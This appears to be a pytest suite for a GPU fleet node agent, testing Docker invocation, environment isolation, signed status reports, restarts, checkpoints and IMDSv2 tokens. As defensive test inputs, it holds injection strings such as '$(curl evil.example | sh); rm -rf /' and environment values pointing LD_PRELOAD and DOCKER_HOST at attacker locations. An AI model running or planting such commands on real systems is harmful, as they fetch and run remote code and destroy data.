"""The node agent: what reaches the container, and what it reports."""

from __future__ import annotations

import io
import json
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from email.message import Message
from pathlib import Path
from typing import Any

import pytest

from gpufleet.agent import __main__ as agent_main
from gpufleet.agent.aws import EventBridgeReporter, Imds, ReportNotSent
from gpufleet.agent.docker import (
    DOCKER_CLI_VARIABLES,
    ContainerLogs,
    DockerRuntime,
    container_environment,
    create_argv,
    docker_cli_environment,
    exit_status,
    looks_like_gpu_oom,
    relay,
)
from gpufleet.agent.ledger import RunLedger
from gpufleet.agent.node import (
    MANIFEST_FETCH_ATTEMPTS,
    MAX_JOB_METRICS,
    JobMetrics,
    NodeAgent,
    RunManifest,
    RunOutcome,
    parse_job_metric_line,
)
from gpufleet.domain.node_reports import NodeKey, ReportNotAuthentic, verify_report
from gpufleet.domain.rendezvous import Peer, node_environment
from gpufleet.topology import (
    DETAIL_NODE_FINISHED,
    DETAIL_NODE_HEARTBEAT,
    DETAIL_NODE_STARTED,
    agent_log_stream,
)
from tests.manual_clock import ManualClock
from tests.node_keys import NODE_KEY, NODE_KEY_DOCUMENT, is_node_key, unsigned

HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"


def manifest(**overrides: Any) -> RunManifest:
    values: dict[str, Any] = {
        "job_id": "j-0123456789abcdef0123",
        "name": "t",
        "image": "img:1",
        "command": ["python", "train.py", HOSTILE],
        "env": {"SECRET_ARG": HOSTILE, "MODE": "x"},
    }
    values.update(overrides)
    return RunManifest(**values)


def test_docker_gets_argv_as_a_list_and_env_values_never_on_the_command_line() -> None:
    argv = create_argv(manifest(), Path("/run/env"))
    assert argv[:2] == ["docker", "create"]
    assert argv[argv.index("--gpus") : argv.index("--gpus") + 2] == ["--gpus", "all"]
    # The hostile argument is one argv element, after the image and '--'.
    separator = argv.index("--")
    assert argv[separator + 1 :] == ["img:1", "python", "train.py", HOSTILE]
    # The env comes from the file, by path: no name or value of it is in argv.
    assert argv[argv.index("--env-file") + 1] == "/run/env"
    assert not any(HOSTILE in arg or "MODE" in arg for arg in argv[:separator])


def test_the_container_output_goes_to_the_agent_log_group_one_stream_per_job_and_instance() -> None:
    logs = ContainerLogs("/gpufleet/agent", "us-east-1", "i-0abc")
    argv = create_argv(manifest(), Path("/run/env"), logs)
    options = argv[: argv.index("--")]
    assert options[options.index("--log-driver") + 1] == "awslogs"
    assert {"awslogs-region=us-east-1", "awslogs-group=/gpufleet/agent"} <= set(options)
    assert f"awslogs-stream={agent_log_stream('j-0123456789abcdef0123', 'i-0abc')}" in options
    assert "--log-driver" not in create_argv(manifest(), Path("/run/env"))  # Docker's default


@dataclass
class FakeIdentity:
    def instance_id(self) -> str:
        return "i-1"

    def tags(self) -> Mapping[str, str]:
        return {"gpufleet:job-id": "j-0123456789abcdef0123", "gpufleet:managed": "true"}

    def interruption_notice(self) -> str | None:
        return None


@dataclass
class FakeManifests:
    documents: dict[str, bytes] = field(default_factory=dict)

    def fetch(self, key: str) -> bytes:
        if is_node_key(key) and key not in self.documents:
            return NODE_KEY_DOCUMENT  # every run has one
        return self.documents[key]


@dataclass
class FakeReporter:
    reports: list[tuple[str, dict[str, Any]]] = field(default_factory=list)

    def report(self, source: str, detail_type: str, detail: Mapping[str, Any]) -> None:
        self.reports.append((detail_type, dict(detail)))


JOB = "j-0123456789abcdef0123"
RUN_KEY = f"runs/{JOB}/run.json"
RUN = json.dumps({"job_id": JOB, "image": "img", "command": ["a"]}).encode()


@dataclass
class CountingManifests(FakeManifests):
    fetches: int = 0

    def fetch(self, key: str) -> bytes:
        if key == RUN_KEY:
            self.fetches += 1
        return super().fetch(key)


@dataclass
class BrokenReporter:
    """EventBridge out of reach: every report (or those of one kind) fails."""

    fail_on: str | None = None

    def report(self, source: str, detail_type: str, detail: Mapping[str, Any]) -> None:
        if self.fail_on in (None, detail_type):
            raise ConnectionError("could not connect to the endpoint URL")


@dataclass
class FakeRuntime:
    outcome: RunOutcome
    seen: list[RunManifest] = field(default_factory=list)

    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
        self.seen.append(manifest)
        return self.outcome


def test_the_agent_reports_start_then_finish_with_the_exit_code() -> None:
    document = json.dumps(
        {"job_id": "j-0123456789abcdef0123", "image": "img", "command": ["a", HOSTILE]}
    ).encode()
    reporter = FakeReporter()
    runtime = FakeRuntime(RunOutcome(exit_code=7))
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({"runs/j-0123456789abcdef0123/run.json": document}),
        reporter,
        runtime,
    )
    assert agent.run().exit_code == 7
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_STARTED, DETAIL_NODE_FINISHED]
    assert unsigned(reporter.reports[1][1]) == {
        "job_id": "j-0123456789abcdef0123",
        "instance_id": "i-1",
        "phase": "finished",
        "exit_code": 7,
        "reason": "",
    }
    assert runtime.seen[0].command == ["a", HOSTILE]


def test_every_report_is_signed_with_the_runs_key() -> None:
    reporter = FakeReporter()
    clock = ManualClock()
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        reporter,
        FakeRuntime(RunOutcome(exit_code=0)),
        wall_clock=lambda: 1_800_000_000.25,
        clock=clock,
    )
    agent.run()
    assert len(reporter.reports) == 2
    for _kind, detail in reporter.reports:
        verify_report(detail, NODE_KEY)  # raises unless signed with it
        assert detail["run"] == NODE_KEY.run
        assert detail["sent_ms"] == 1_800_000_000_250
    other_run = NodeKey(run=NODE_KEY.run, secret=bytes(32))
    with pytest.raises(ReportNotAuthentic):
        verify_report(reporter.reports[0][1], other_run)


def test_a_run_whose_key_cannot_be_read_does_not_start() -> None:
    """Its reports could not be heard: nothing runs, and the one report says why."""
    reporter = FakeReporter()
    runtime = FakeRuntime(RunOutcome(exit_code=0))
    manifests = FakeManifests({RUN_KEY: RUN, f"runs/{JOB}/node-key": b'{"run": 1}'})
    NodeAgent(FakeIdentity(), manifests, reporter, runtime, manifest_retry_seconds=0).run()
    assert runtime.seen == []
    [(kind, detail)] = reporter.reports
    assert kind == DETAIL_NODE_FINISHED
    assert "node key is not valid" in detail["reason"]
    assert "signature" not in detail  # nothing to sign it with: the control plane refuses it


def test_a_missing_manifest_is_reported_as_a_failure_not_a_hang() -> None:
    reporter = FakeReporter()
    manifests = CountingManifests()
    agent = NodeAgent(
        FakeIdentity(), manifests, reporter, FakeRuntime(RunOutcome(0)), manifest_retry_seconds=0
    )
    outcome = agent.run()
    assert outcome.exit_code is None
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_FINISHED]
    assert "manifest" in reporter.reports[0][1]["reason"]
    assert manifests.fetches == MANIFEST_FETCH_ATTEMPTS  # perhaps not there yet: tried again


def test_an_invalid_manifest_is_reported_once_and_the_agent_stops(tmp_path: Path) -> None:
    """An unreadable manifest used to make the agent exit 1, and systemd restarted it every 10 s:
    a finish report every 10 s, for ever."""
    manifests = CountingManifests({RUN_KEY: b"{not json"})
    reporter = FakeReporter()
    for _restart in range(3):
        agent = NodeAgent(
            FakeIdentity(),
            manifests,
            reporter,
            FakeRuntime(RunOutcome(0)),
            ledger=RunLedger(tmp_path),
            manifest_retry_seconds=0,
        )
        assert agent.run().exit_code is None
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_FINISHED]
    assert "not valid" in reporter.reports[0][1]["reason"]
    assert manifests.fetches == 3  # an invalid one is not fetched again


def test_the_agent_exits_0_when_the_job_fails(monkeypatch: pytest.MonkeyPatch) -> None:
    """The exit status is the agent's: a failed job is no reason for systemd to restart it
    (and run the job again)."""
    runtime = FakeRuntime(RunOutcome(exit_code=7, reason="loss is nan"))
    agent = NodeAgent(FakeIdentity(), FakeManifests({RUN_KEY: RUN}), FakeReporter(), runtime)
    monkeypatch.setattr(agent_main, "build_agent", lambda _args: agent)
    assert (
        agent_main.main(
            ["--bucket", "b", "--bus", "bus", "--region", "us-east-1", "--job-role", "r"]
        )
        == 0
    )
    assert len(runtime.seen) == 1


def test_the_agent_exits_non_zero_only_when_the_agent_itself_fails(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    agent = NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), BrokenReporter(), FakeRuntime(RunOutcome(0))
    )
    monkeypatch.setattr(agent_main, "build_agent", lambda _args: agent)
    with pytest.raises(ConnectionError):  # Python exits 1: systemd restarts the agent
        agent_main.main(
            ["--bucket", "b", "--bus", "bus", "--region", "us-east-1", "--job-role", "r"]
        )
    with pytest.raises(SystemExit) as usage:  # bad arguments: 2, which the unit never restarts
        agent_main.main(["--bucket", "b"])
    assert usage.value.code == 2


def test_a_restarted_agent_never_runs_a_finished_run_again(tmp_path: Path) -> None:
    runtime = FakeRuntime(RunOutcome(exit_code=7))
    first, again = FakeReporter(), FakeReporter()
    for reporter in (first, again):  # the agent, then the agent systemd restarted
        agent = NodeAgent(
            FakeIdentity(),
            FakeManifests({RUN_KEY: RUN}),
            reporter,
            runtime,
            ledger=RunLedger(tmp_path),
        )
        assert agent.run().exit_code == 7
    assert len(runtime.seen) == 1
    # The restarted agent sends the finish report again (the first may never have left).
    assert [kind for kind, _ in again.reports] == [DETAIL_NODE_FINISHED]
    assert again.reports[0][1] == first.reports[-1][1]


def test_a_finish_report_that_could_not_be_sent_is_sent_by_the_restarted_agent(
    tmp_path: Path,
) -> None:
    runtime = FakeRuntime(RunOutcome(exit_code=0))
    failing = BrokenReporter(fail_on=DETAIL_NODE_FINISHED)
    agent = NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), failing, runtime, ledger=RunLedger(tmp_path)
    )
    with pytest.raises(ConnectionError):
        agent.run()
    reporter = FakeReporter()
    restarted = NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), reporter, runtime, ledger=RunLedger(tmp_path)
    )
    assert restarted.run().exit_code == 0
    assert len(runtime.seen) == 1
    assert [(kind, detail["exit_code"]) for kind, detail in reporter.reports] == [
        (DETAIL_NODE_FINISHED, 0)
    ]


def test_a_run_whose_start_could_not_be_reported_runs_after_the_restart(tmp_path: Path) -> None:
    runtime = FakeRuntime(RunOutcome(exit_code=0))
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        BrokenReporter(fail_on=DETAIL_NODE_STARTED),
        runtime,
        ledger=RunLedger(tmp_path),
    )
    with pytest.raises(ConnectionError):
        agent.run()
    assert runtime.seen == []  # nothing ran: the control plane never heard of a start
    reporter = FakeReporter()
    NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), reporter, runtime, ledger=RunLedger(tmp_path)
    ).run()
    assert len(runtime.seen) == 1
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_STARTED, DETAIL_NODE_FINISHED]


def test_a_run_the_agent_died_in_is_reported_failed_and_not_started_again(tmp_path: Path) -> None:
    class DyingRuntime:
        def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
            raise MemoryError("the agent process was killed")

    with pytest.raises(MemoryError):
        NodeAgent(
            FakeIdentity(),
            FakeManifests({RUN_KEY: RUN}),
            FakeReporter(),
            DyingRuntime(),
            ledger=RunLedger(tmp_path),
        ).run()
    reporter, runtime = FakeReporter(), FakeRuntime(RunOutcome(exit_code=0))
    restarted = NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), reporter, runtime, ledger=RunLedger(tmp_path)
    )
    outcome = restarted.run()
    assert runtime.seen == []
    assert outcome.exit_code is None and "restarted" in outcome.reason
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_FINISHED]


def test_the_finish_report_is_sent_again_while_the_instance_lives() -> None:
    """A finish report that never reaches the control plane (its delivery ended in a dead-letter
    queue) is made up for by the next copy; the copies stop when the node goes."""
    reporter, going = FakeReporter(), threading.Event()
    sent_again = threading.Event()

    class GoingAfterTwoCopies(FakeReporter):
        def report(self, source: str, detail_type: str, detail: Mapping[str, Any]) -> None:
            reporter.report(source, detail_type, detail)
            if [kind for kind, _ in reporter.reports].count(DETAIL_NODE_FINISHED) == 3:
                sent_again.set()
                going.set()  # the control plane released the instance: it shuts down

    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        GoingAfterTwoCopies(),
        FakeRuntime(RunOutcome(exit_code=0)),
        finish_resend_seconds=0.01,
        finish_resends=100,
        going=going,
    )
    assert agent.run().exit_code == 0
    assert sent_again.is_set()
    finishes = [detail for kind, detail in reporter.reports if kind == DETAIL_NODE_FINISHED]
    assert len(finishes) == 3 and all(detail == finishes[0] for detail in finishes)
    # At most `finish_resends` copies, even when the instance stays.
    capped = FakeReporter()
    NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        capped,
        FakeRuntime(RunOutcome(exit_code=0)),
        finish_resend_seconds=0.001,
        finish_resends=2,
    ).run()
    assert [kind for kind, _ in capped.reports].count(DETAIL_NODE_FINISHED) == 3


def test_a_report_eventbridge_did_not_take_raises() -> None:
    class PartialFailure:
        def put_events(self, **_: Any) -> dict[str, Any]:
            return {
                "FailedEntryCount": 1,
                "Entries": [{"ErrorCode": "ThrottlingException", "ErrorMessage": "slow down"}],
            }

    with pytest.raises(ReportNotSent, match="ThrottlingException"):
        EventBridgeReporter(PartialFailure(), "bus").report("s", DETAIL_NODE_FINISHED, {})


@dataclass
class SlowRuntime:
    """A container that runs `seconds` on the clock, or until the agent stops it."""

    clock: ManualClock
    seconds: float

    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
        if self.clock.wait(stop, self.seconds):
            return RunOutcome(exit_code=0, reason="checkpointed on request")
        return RunOutcome(exit_code=0)


def running(agent: NodeAgent) -> Callable[[], RunOutcome]:
    """Start the agent on a thread; what it returns, once it did."""
    outcome: list[RunOutcome] = []
    thread = threading.Thread(target=lambda: outcome.append(agent.run()), daemon=True)
    thread.start()

    def result() -> RunOutcome:
        thread.join(10.0)  # a hang guard: the clock alone decides when the run ends
        assert not thread.is_alive() and outcome, "the agent did not return"
        return outcome[0]

    return result


def step(clock: ManualClock, seconds: float, by: float, threads: int) -> None:
    """Move the clock on by `by` at a time, letting `threads` waiting threads act at each."""
    for _ in range(round(seconds / by)):
        clock.settle(threads)
        clock.advance(by)


# While a run goes on, three threads wait on the clock: the run, heartbeats, the control watch.
RUN_THREADS = 3


def test_the_agent_heartbeats_while_the_container_runs_and_stops_after() -> None:
    clock, reporter = ManualClock(), FakeReporter()
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        reporter,
        SlowRuntime(clock, 350.0),
        heartbeat_seconds=60.0,
        clock=clock,
    )
    result = running(agent)
    step(clock, 350.0, by=10.0, threads=RUN_THREADS)
    assert result().exit_code == 0
    kinds = [kind for kind, _ in reporter.reports]
    # One at 60, 120, 180, 240 and 300 s; the run ended at 350 s.
    assert kinds == [DETAIL_NODE_STARTED, *[DETAIL_NODE_HEARTBEAT] * 5, DETAIL_NODE_FINISHED]
    clock.advance(3600.0)
    assert clock.waiting() == 0 and len(reporter.reports) == len(kinds)  # none after the finish


def test_a_checkpoint_instruction_stops_the_run_and_is_reported() -> None:
    clock, reporter = ManualClock(), FakeReporter()
    manifests = FakeManifests({RUN_KEY: RUN})
    agent = NodeAgent(
        FakeIdentity(),
        manifests,
        reporter,
        SlowRuntime(clock, 5000.0),
        control_poll_seconds=10.0,
        clock=clock,
    )
    result = running(agent)
    step(clock, 20.0, by=10.0, threads=RUN_THREADS)  # two looks: no instruction yet
    clock.settle(RUN_THREADS)
    manifests.documents[f"runs/{JOB}/control.json"] = (
        b'{"action": "checkpoint", "reason": "preempted"}'
    )
    clock.advance(10.0)
    outcome = result()
    assert clock.now() == 30.0  # stopped at the next look, long before its 5000 s
    assert outcome.reason == "checkpointed on request"
    assert reporter.reports[-1][1]["reason"] == "checkpointed on request"


def test_a_resumed_run_is_told_where_its_checkpoint_is_by_environment_only() -> None:
    resumed = manifest(resume=True, checkpoint="s3://ckpt/job/")
    assert container_environment(resumed)["GPUFLEET_RESUME_FROM"] == "s3://ckpt/job/"
    assert not any("s3://ckpt" in arg for arg in create_argv(resumed, Path("/run/env")))
    assert "GPUFLEET_RESUME_FROM" not in container_environment(manifest())


@pytest.mark.parametrize(
    ("log_tail", "oom"),
    [
        ("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB", True),
        ("RuntimeError: CUDA error: CUBLAS_STATUS_ALLOC_FAILED", True),
        ("ValueError: bad learning rate", False),
    ],
)
def test_gpu_out_of_memory_is_recognised_in_the_log_tail(log_tail: str, oom: bool) -> None:
    assert looks_like_gpu_oom(log_tail) is oom


@pytest.mark.parametrize(
    ("line", "values"),
    [
        (
            "GPUFLEET_METRIC samples_per_second=1234 loss=0.31",
            {"samples_per_second": 1234.0, "loss": 0.31},
        ),
        ("GPUFLEET_METRIC tokens/s=5 ok=1", {"ok": 1.0}),  # a bad name is skipped, not the line
        ("GPUFLEET_METRIC loss=nan speed=inf eta=soon", {}),
        ("GPUFLEET_METRIC GpuUtilization=3", {}),  # the agent's own metrics cannot be spoofed
        ("epoch 3: loss=0.31", {}),
        ("GPUFLEET_METRIC x=1" + " " * 2000, {}),  # too long: ignored
    ],
)
def test_job_metric_lines_are_parsed_strictly(line: str, values: dict[str, float]) -> None:
    assert parse_job_metric_line(line) == values


def test_job_metrics_are_averaged_between_publications_and_capped_in_number() -> None:
    metrics = JobMetrics()
    metrics.feed("GPUFLEET_METRIC samples_per_second=100\n")
    metrics.feed("GPUFLEET_METRIC samples_per_second=300\n")
    assert metrics.take_means() == {"samples_per_second": 200.0}
    assert metrics.take_means() == {}
    for n in range(MAX_JOB_METRICS + 5):  # one name is already taken: samples_per_second
        metrics.feed(f"GPUFLEET_METRIC m{n}=1 samples_per_second=5")
    means = metrics.take_means()
    assert len(means) == MAX_JOB_METRICS and means["samples_per_second"] == 5.0


@dataclass
class FakeGpus:
    def utilization_percent(self) -> float | None:
        return 97.0

    def temperature_celsius(self) -> float | None:
        return None  # cannot tell: not published

    def memory_used_mib(self) -> float | None:
        return 20480.0


@dataclass
class FakeSink:
    points: list[tuple[str, str, float, str]] = field(default_factory=list)

    def put(self, job_id: str, name: str, value: float, unit: str) -> None:
        self.points.append((job_id, name, value, unit))


@dataclass
class PrintingRuntime:
    """A container that prints its throughput, then runs 100 s on the clock."""

    job_metrics: JobMetrics
    clock: ManualClock

    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
        self.job_metrics.feed("GPUFLEET_METRIC samples_per_second=400\n")
        self.job_metrics.feed("training step 10\n")
        self.clock.wait(stop, 100.0)
        return RunOutcome(exit_code=0)


def test_the_agent_publishes_gpu_memory_and_the_jobs_own_metrics() -> None:
    clock, sink, job_metrics = ManualClock(), FakeSink(), JobMetrics()
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        FakeReporter(),
        PrintingRuntime(job_metrics, clock),
        gpu_probe=FakeGpus(),
        metrics=sink,
        metrics_seconds=60.0,
        job_metrics=job_metrics,
        clock=clock,
    )
    result = running(agent)
    step(clock, 100.0, by=10.0, threads=RUN_THREADS + 1)  # and the metrics publisher
    assert result().exit_code == 0
    published = {(name, value, unit) for _, name, value, unit in sink.points}
    assert published == {  # one publication, at 60 s
        ("GpuUtilization", 97.0, "Percent"),
        ("GpuMemoryUsed", 20480.0, "Megabytes"),
        ("samples_per_second", 400.0, "None"),
    }
    assert len(sink.points) == 3 and {job_id for job_id, _, _, _ in sink.points} == {JOB}


@dataclass
class WarmIdentity(FakeIdentity):
    """A warm-pool instance: no job tag until a launch claims it (after a few looks)."""

    looks: int = 0

    def tags(self) -> Mapping[str, str]:
        self.looks += 1
        return super().tags() if self.looks > 3 else {"gpufleet:managed": "true"}


def test_a_warm_instance_waits_for_the_job_that_claims_it() -> None:
    job = "j-0123456789abcdef0123"
    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
    identity, runtime = WarmIdentity(), FakeRuntime(RunOutcome(exit_code=0))
    agent = NodeAgent(
        identity,
        FakeManifests({f"runs/{job}/run.json": document}),
        FakeReporter(),
        runtime,
        claim_poll_seconds=0.001,
    )
    assert agent.run().exit_code == 0
    assert identity.looks == 4 and runtime.seen[0].job_id == job


def test_the_containers_stdout_is_relayed_line_by_line(capsys: pytest.CaptureFixture[str]) -> None:
    lines: list[str] = []
    relay(io.StringIO("step 1\nGPUFLEET_METRIC loss=0.5\n"), lines.append)
    assert lines == ["step 1\n", "GPUFLEET_METRIC loss=0.5\n"]
    assert capsys.readouterr().out == "step 1\nGPUFLEET_METRIC loss=0.5\n"


# -- the docker CLI, as a process ----------------------------------------------------------------

# Stands in for the docker CLI: records each call (its argv, the environment it was started
# with, and for `create` the env file it was handed); `start` prints two lines and exits with
# EXIT_CODE, or until `stop` signals it when told to wait.
FAKE_DOCKER = """#!{python}
import json, os, signal, stat, sys, time
args = sys.argv[1:]
record = {{"argv": sys.argv}}
with open("/proc/self/environ", "rb") as environ:  # as started: Python sets some of its own
    pairs = [item.split(b"=", 1) for item in environ.read().split(b"\\0") if item]
    record["env"] = {{name.decode(): value.decode() for name, value in pairs}}
if args[0] == "create":
    path = args[args.index("--env-file") + 1]
    with open(path, encoding="utf-8") as file:
        record["env_file"] = file.read()
    record["env_file_mode"] = stat.S_IMODE(os.stat(path).st_mode)
    record["env_dir_mode"] = stat.S_IMODE(os.stat(os.path.dirname(path)).st_mode)
    record["env_file_path"] = path
with open({log!r}, "a") as log:
    log.write(json.dumps(record) + "\\n")
if args[0] == "start":
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    with open({pid!r}, "w") as pid:
        pid.write(str(os.getpid()))
    print("step 1")
    print("GPUFLEET_METRIC loss=0.5", flush=True)
    if {wait!r}:
        time.sleep(60)
    sys.exit({exit_code})
if args[0] == "stop":
    with open({pid!r}) as pid:
        os.kill(int(pid.read()), signal.SIGTERM)
if args[0] == "logs":
    print("torch.OutOfMemoryError: CUDA out of memory")
"""

# The agent's environment on the instance: what docker needs, and what it must not get.
AGENT_ONLY = {"AWS_SECRET_ACCESS_KEY": "agent-secret", "LD_PRELOAD": "", "GODEBUG": "x509=0"}


@dataclass
class FakeDocker:
    directory: Path
    environment: dict[str, str]

    def calls(self) -> list[dict[str, Any]]:
        log = self.directory / "calls.jsonl"
        return [json.loads(line) for line in log.read_text().splitlines()]

    def run(
        self, run: RunManifest, stop: threading.Event | None = None, **options: Any
    ) -> RunOutcome:
        runtime = DockerRuntime(environment=self.environment, **options)
        return runtime.run(run, stop or threading.Event())


def fake_docker(tmp_path: Path, exit_code: int = 0, wait: bool = False) -> FakeDocker:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    script = bin_dir / "docker"
    script.write_text(
        FAKE_DOCKER.format(
            python=sys.executable,
            log=str(tmp_path / "calls.jsonl"),
            pid=str(tmp_path / "start.pid"),
            wait=wait,
            exit_code=exit_code,
        )
    )
    script.chmod(0o755)
    environment = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "HOME": str(tmp_path),
        "DOCKER_HOST": "unix:///var/run/docker.sock",
        **AGENT_ONLY,
    }
    return FakeDocker(tmp_path, environment)


JOB_ENV = {
    "SECRET": "the-jobs-secret $(reboot)",  # the command's argument is HOSTILE: not this
    "QUOTES": "'\"; $PATH `id`",
    # Names that would steer the docker CLI (root) if it got them.
    "PATH": "/tmp/attacker",
    "LD_PRELOAD": "/tmp/attacker.so",
    "DOCKER_HOST": "tcp://attacker.example:2375",
    "EMPTY": "",
}


def test_the_jobs_env_reaches_only_the_container_through_a_private_file(tmp_path: Path) -> None:
    docker = fake_docker(tmp_path)
    run = manifest(env=JOB_ENV, resume=True, checkpoint="s3://ckpt/j/")
    assert docker.run(run).exit_code == 0
    calls = docker.calls()
    assert [call["argv"][1] for call in calls] == ["create", "start", "rm"]
    [create] = [call for call in calls if call["argv"][1] == "create"]
    solo = node_environment([Peer("", "127.0.0.1")], rank=0, gpus_per_node=1)
    jobs_own = {**JOB_ENV, "GPUFLEET_RESUME_FROM": "s3://ckpt/j/"}
    expected = {**jobs_own, **solo}
    assert create["env_file"] == "".join(f"{k}={v}\n" for k, v in sorted(expected.items()))
    assert (create["env_file_mode"], create["env_dir_mode"]) == (0o600, 0o700)
    assert not Path(create["env_file_path"]).parent.exists()  # removed once created
    for call in calls:
        # No value of the job's on any command line ...
        assert not [
            arg for arg in call["argv"] for value in jobs_own.values() if value and value in arg
        ]
        # ... and the CLI's environment is the allowlist, from the agent's, nothing of the job's.
        assert call["env"] == docker_cli_environment(docker.environment)
        assert set(call["env"]) <= set(DOCKER_CLI_VARIABLES)
        assert call["env"]["PATH"] == docker.environment["PATH"]
        assert call["env"]["DOCKER_HOST"] == "unix:///var/run/docker.sock"


def test_an_env_docker_cannot_carry_fails_the_run_before_docker_is_called(tmp_path: Path) -> None:
    docker = fake_docker(tmp_path)
    outcome = docker.run(manifest(env={"PEM": "-----BEGIN-----\nabc\n-----END-----"}))
    assert outcome.exit_code is None and "line break" in outcome.reason
    assert not (tmp_path / "calls.jsonl").exists()


def test_the_container_is_started_attached_and_its_output_and_exit_code_come_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines: list[str] = []
    docker = fake_docker(tmp_path, exit_code=3)
    outcome = docker.run(manifest(), output=lines.append)
    assert (outcome.exit_code, outcome.oom) == (3, True)  # its log tail says so
    assert lines == ["step 1\n", "GPUFLEET_METRIC loss=0.5\n"]
    argvs = [call["argv"][1:] for call in docker.calls()]
    name = "gpufleet-j-0123456789abcdef0123"
    assert argvs[1:] == [
        ["start", "--attach", name],
        ["logs", "--tail", "200", name],
        ["rm", "-f", name],
    ]


def test_a_checkpoint_request_stops_the_container_with_its_grace(tmp_path: Path) -> None:
    docker = fake_docker(tmp_path, wait=True)
    stop = threading.Event()
    # The request comes while the container runs (once it has printed its first line).
    outcome = docker.run(manifest(), stop, grace_seconds=7, output=lambda _line: stop.set())
    assert (outcome.exit_code, outcome.reason) == (143, "checkpointed on request")
    [stopped] = [call for call in docker.calls() if call["argv"][1] == "stop"]
    assert stopped["argv"][2:] == ["--time", "7", "gpufleet-j-0123456789abcdef0123"]
    assert stopped["env"] == docker_cli_environment(docker.environment)


@pytest.mark.parametrize(("returncode", "status"), [(0, 0), (137, 137), (-9, 137), (-15, 143)])
def test_a_death_by_signal_is_reported_as_docker_reports_it(returncode: int, status: int) -> None:
    assert exit_status(returncode) == status


# -- IMDSv2 -------------------------------------------------------------------------------------


@dataclass
class FakeImds:
    """The metadata service: a token lasts the TTL it was asked for (on `now`); a request with
    an expired or unknown token answers 401, as IMDSv2 does."""

    now: float = 0.0
    notice: str = '{"action": "terminate", "time": "2026-01-01T00:00:00Z"}'
    tokens: dict[str, float] = field(default_factory=dict)  # token -> expiry
    issued: int = 0
    refused: int = 0

    def urlopen(self, request: urllib.request.Request, timeout: float) -> io.BytesIO:
        if request.get_method() == "PUT":
            ttl = float(request.get_header("X-aws-ec2-metadata-token-ttl-seconds") or 0)
            assert 1 <= ttl <= 21600  # IMDSv2's bounds
            token = f"token-{self.issued}"
            self.issued += 1
            self.tokens[token] = self.now + ttl
            return io.BytesIO(token.encode())
        token = request.get_header("X-aws-ec2-metadata-token") or ""
        if self.tokens.get(token, -1.0) <= self.now:
            self.refused += 1
            raise urllib.error.HTTPError(request.full_url, 401, "Unauthorized", Message(), None)
        if request.full_url.endswith("/spot/instance-action"):
            return io.BytesIO(self.notice.encode())
        raise urllib.error.HTTPError(request.full_url, 404, "Not Found", Message(), None)


def test_the_imds_token_is_renewed_before_it_expires() -> None:
    imds = FakeImds()
    identity = Imds(urlopen=imds.urlopen, clock=lambda: imds.now)
    assert identity.interruption_notice() == imds.notice
    for hours in range(1, 13):
        imds.now = hours * 3600 + 1.0  # at 6 h 1 s, the first token is over
        assert identity.interruption_notice() == imds.notice
    assert imds.refused == 0  # renewed before: no call ever went out with an expired token
    assert imds.issued == 3


def test_a_token_the_service_no_longer_takes_is_replaced_once() -> None:
    imds = FakeImds()
    identity = Imds(urlopen=imds.urlopen, clock=lambda: imds.now)
    imds.tokens.clear()  # the service forgot it (a restarted IMDS)
    assert identity.interruption_notice() == imds.notice
    assert imds.refused == 1 and imds.issued == 2
